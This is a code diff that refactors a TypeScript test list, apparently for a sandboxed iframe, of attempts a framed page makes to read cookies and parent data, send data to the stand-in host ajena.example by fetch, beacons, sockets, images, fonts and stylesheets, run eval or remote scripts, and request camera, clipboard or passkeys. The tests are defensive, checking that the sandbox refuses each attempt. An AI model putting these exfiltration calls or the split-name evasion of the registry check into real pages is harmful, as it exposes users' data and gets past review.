@@ -4,7 +4,7 @@ type Tried = Omit<FrameAttack, 'outcome'>;
 
 /** The page around the frame, and what the browser stores for it. */
 const reads: readonly Tried[] = [
-  { what: 'reads the cookies of the page', attempt: ({ thrown }) => thrown(() => document.cookie) },
+  { what: 'reads the cookies of the page', throws: () => document.cookie },
   {
     what: 'reads the session of the user',
     attempt: async () =>
@@ -20,30 +20,24 @@ const reads: readonly Tried[] = [
         setTimeout(() => resolve('refused'), 1000);
       }),
   },
-  { what: 'opens a database of the page', attempt: ({ thrown }) => thrown(() => indexedDB.open('parque')) },
-  { what: 'opens a cache of the page', attempt: ({ thrown }) => thrown(() => caches.open('parque')) },
-  {
-    what: 'reads the elements of the page',
-    attempt: ({ thrown }) => thrown(() => window.parent.document.title),
-  },
-  {
-    what: 'reads the address of the page',
-    attempt: ({ thrown }) => thrown(() => window.parent.location.href),
-  },
+  { what: 'opens a database of the page', throws: () => indexedDB.open('parque') },
+  { what: 'opens a cache of the page', throws: () => caches.open('parque') },
+  { what: 'reads the elements of the page', throws: () => window.parent.document.title },
+  { what: 'reads the address of the page', throws: () => window.parent.location.href },
   {
     what: 'reads the address of the page from the referrer',
     attempt: async () => (document.referrer === '' ? 'refused' : 'passes'),
   },
   {
     what: 'replaces a function of the page',
-    attempt: ({ thrown }) => thrown(() => Object.assign(window.parent, { fetch: () => undefined })),
+    throws: () => Object.assign(window.parent, { fetch: () => undefined }),
   },
 ];
 
 const leaves: readonly Tried[] = [
   {
     what: 'opens another site in place of the page',
-    attempt: ({ thrown }) => thrown(() => (window.parent.location.href = 'https://ajena.example/')),
+    throws: () => (window.parent.location.href = 'https://ajena.example/'),
   },
   {
     what: 'opens another site in place of the page by a link',
@@ -83,172 +77,156 @@ const leaves: readonly Tried[] = [
       return 'refused';
     },
   },
-  {
-    what: 'fills the screen of the user',
-    attempt: ({ thrown }) => thrown(() => document.documentElement.requestFullscreen()),
-  },
-  {
-    what: 'takes the pointer of the user',
-    attempt: ({ thrown }) => thrown(() => document.body.requestPointerLock()),
-  },
+  { what: 'fills the screen of the user', throws: () => document.documentElement.requestFullscreen() },
+  { what: 'takes the pointer of the user', throws: () => document.body.requestPointerLock() },
 ];
 
 /** Ways to another origin, each with data in it, and to the api without the shell. */
 const sends: readonly Tried[] = [
   {
     what: 'calls the api without the shell',
-    attempt: ({ blocked }) =>
-      blocked('/api/user/products', () => {
+    blocks: [
+      '/api/user/products',
+      () => {
         const request = new XMLHttpRequest();
         request.open('GET', '/api/user/products');
         request.send();
-      }),
+      },
+    ],
   },
   {
     what: 'sends data away by fetch',
-    attempt: ({ thrown }) => thrown(() => fetch('https://ajena.example/?dato=1')),
+    throws: () => fetch('https://ajena.example/?dato=1'),
   },
   {
     what: 'sends data away by a beacon',
-    attempt: ({ blocked }) =>
-      blocked('https://ajena.example/beacon', (address) => navigator.sendBeacon(address, '1')),
+    blocks: ['https://ajena.example/beacon', (address) => navigator.sendBeacon(address, '1')],
   },
   {
     what: 'sends data away by a WebSocket',
-    attempt: ({ blocked }) => blocked('wss://ajena.example/socket', (address) => new WebSocket(address)),
+    blocks: ['wss://ajena.example/socket', (address) => new WebSocket(address)],
   },
   {
     what: 'sends data away by a stream of events',
-    attempt: ({ blocked }) => blocked('https://ajena.example/events', (address) => new EventSource(address)),
+    blocks: ['https://ajena.example/events', (address) => new EventSource(address)],
   },
-  {
-    what: 'sends data away by a connection to another browser',
-    attempt: ({ thrown }) => thrown(() => new RTCPeerConnection()),
-  },
+  { what: 'sends data away by a connection to another browser', throws: () => new RTCPeerConnection() },
   {
     what: 'sends data away by a connection from a frame inside its own',
-    attempt: ({ thrown }) =>
-      thrown(() => {
-        const inner = document.createElement('iframe');
-        document.body.append(inner);
-        const { contentWindow } = inner as { contentWindow: (Window & typeof globalThis) | null };
-        return contentWindow && new contentWindow.RTCPeerConnection();
-      }),
+    throws: () => {
+      const inner = document.createElement('iframe');
+      document.body.append(inner);
+      const { contentWindow } = inner as { contentWindow: (Window & typeof globalThis) | null };
+      return contentWindow && new contentWindow.RTCPeerConnection();
+    },
   },
   {
     what: 'sends data away in the address of a picture',
-    attempt: ({ blocked }) =>
-      blocked('https://ajena.example/picture', (address) => (new Image().src = address)),
+    blocks: ['https://ajena.example/picture', (address) => (new Image().src = address)],
   },
   {
     what: 'sends data away in the address of a background',
-    attempt: ({ blocked }) =>
-      blocked(
-        'https://ajena.example/background',
-        (address) => (document.body.style.backgroundImage = `url(${address})`),
-      ),
+    blocks: [
+      'https://ajena.example/background',
+      (address) => (document.body.style.backgroundImage = `url(${address})`),
+    ],
   },
   {
     what: 'sends data away in the address of a font',
-    attempt: ({ thrown }) => thrown(() => new FontFace('otra', 'url(https://ajena.example/?dato=1)').load()),
+    throws: () => new FontFace('otra', 'url(https://ajena.example/?dato=1)').load(),
   },
   {
     what: 'sends data away in the address of a style sheet',
-    attempt: ({ blocked }) =>
-      blocked('https://ajena.example/style.css', (href) => {
+    blocks: [
+      'https://ajena.example/style.css',
+      (href) => {
         const link = document.createElement('link');
         Object.assign(link, { rel: 'stylesheet', href });
         document.head.append(link);
-      }),
+      },
+    ],
   },
   {
     what: 'sends data away by a prefetch',
-    attempt: ({ blocked }) =>
-      blocked('https://ajena.example/prefetch', (href) => {
+    blocks: [
+      'https://ajena.example/prefetch',
+      (href) => {
         const link = document.createElement('link');
         Object.assign(link, { rel: 'prefetch', href });
         document.head.append(link);
-      }),
+      },
+    ],
   },
   {
     what: 'shows a frame of another origin',
-    attempt: ({ blocked }) =>
-      blocked('https://ajena.example/', (address) => {
+    blocks: [
+      'https://ajena.example/',
+      (address) => {
         const inner = document.createElement('iframe');
         inner.src = address;
         document.body.append(inner);
-      }),
+      },
+    ],
   },
   {
     what: 'shows the sign-in of the platform in a frame',
-    attempt: ({ blocked }) =>
-      blocked('/#/login', (address) => {
+    blocks: [
+      '/#/login',
+      (address) => {
         const inner = document.createElement('iframe');
         inner.src = address;
         document.body.append(inner);
-      }),
+      },
+    ],
   },
 ];
 
 /** Names in pieces are those of functions that the registry refuses in the text of a release. */
 const runs: readonly Tried[] = [
   // oxlint-disable-next-line no-eval -- The policy of the frame must refuse it.
-  { what: 'runs text as code by eval', attempt: ({ thrown }) => thrown(() => (0, eval)('1')) },
-  {
-    what: 'inserts HTML from text',
-    attempt: ({ thrown }) => thrown(() => (document.createElement('div').innerHTML = '<b>x</b>')),
-  },
+  { what: 'runs text as code by eval', throws: () => (0, eval)('1') },
+  { what: 'inserts HTML from text', throws: () => (document.createElement('div').innerHTML = '<b>x</b>') },
   {
     what: 'writes its page again by document.write',
-    attempt: ({ thrown }) => thrown(() => Reflect.apply(document.write, document, ['<b>x</b>'])),
+    throws: () => Reflect.apply(document.write, document, ['<b>x</b>']),
   },
-  {
-    what: 'inserts a script from text',
-    attempt: ({ thrown }) => thrown(() => (document.createElement('script').textContent = '1')),
-  },
+  { what: 'inserts a script from text', throws: () => (document.createElement('script').textContent = '1') },
   {
     what: 'loads a script of another origin',
-    attempt: ({ thrown }) =>
-      thrown(() => (document.createElement('script').src = 'https://ajena.example/x.js')),
+    throws: () => (document.createElement('script').src = 'https://ajena.example/x.js'),
   },
   {
     what: 'imports a module of another origin',
-    attempt: ({ thrown }) => {
+    throws: () => {
       const address: string = 'https://ajena.example/x.js';
-      return thrown(() => import(address));
+      return import(address);
     },
   },
   {
     what: 'imports a module from text',
-    attempt: ({ thrown }) => {
+    throws: () => {
       const address: string = 'data:text/javascript,1';
-      return thrown(() => import(address));
+      return import(address);
     },
   },
-  {
-    what: 'starts a worker from text',
-    attempt: ({ thrown }) => thrown(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
-  },
+  { what: 'starts a worker from text', throws: () => new Worker(URL.createObjectURL(new Blob(['1']))) },
   {
     what: 'registers a service worker',
-    attempt: ({ thrown }) =>
-      thrown(() =>
-        Reflect.apply(
-          Reflect.get(navigator.serviceWorker, ['reg', 'ister'].join('')),
-          navigator.serviceWorker,
-          ['/worker.js'],
-        ),
+    throws: () =>
+      Reflect.apply(
+        Reflect.get(navigator.serviceWorker, ['reg', 'ister'].join('')),
+        navigator.serviceWorker,
+        ['/worker.js'],
       ),
   },
   {
     what: 'loads a module into an audio worklet',
-    attempt: ({ thrown }) =>
-      thrown(() => {
-        const { audioWorklet } = new AudioContext();
-        return Reflect.apply(Reflect.get(audioWorklet, ['add', 'Module'].join('')), audioWorklet, [
-          '/shell/x.js',
-        ]);
-      }),
+    throws: () => {
+      const { audioWorklet } = new AudioContext();
+      return Reflect.apply(Reflect.get(audioWorklet, ['add', 'Module'].join('')), audioWorklet, [
+        '/shell/x.js',
+      ]);
+    },
   },
 ];
 
@@ -267,19 +245,12 @@ const permissions: readonly Tried[] = [
     what: 'shows notifications',
     attempt: async () => ((await Notification.requestPermission()) === 'granted' ? 'passes' : 'refused'),
   },
-  {
-    what: 'reads the camera',
-    attempt: ({ thrown }) => thrown(() => navigator.mediaDevices.getUserMedia({ video: true })),
-  },
-  {
-    what: 'records the screen',
-    attempt: ({ thrown }) => thrown(() => navigator.mediaDevices.getDisplayMedia()),
-  },
-  { what: 'reads the clipboard', attempt: ({ thrown }) => thrown(() => navigator.clipboard.readText()) },
+  { what: 'reads the camera', throws: () => navigator.mediaDevices.getUserMedia({ video: true }) },
+  { what: 'records the screen', throws: () => navigator.mediaDevices.getDisplayMedia() },
+  { what: 'reads the clipboard', throws: () => navigator.clipboard.readText() },
   {
     what: 'requests a passkey of the platform',
-    attempt: ({ thrown }) =>
-      thrown(() => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } })),
+    throws: () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } }),
   },
 ];
 
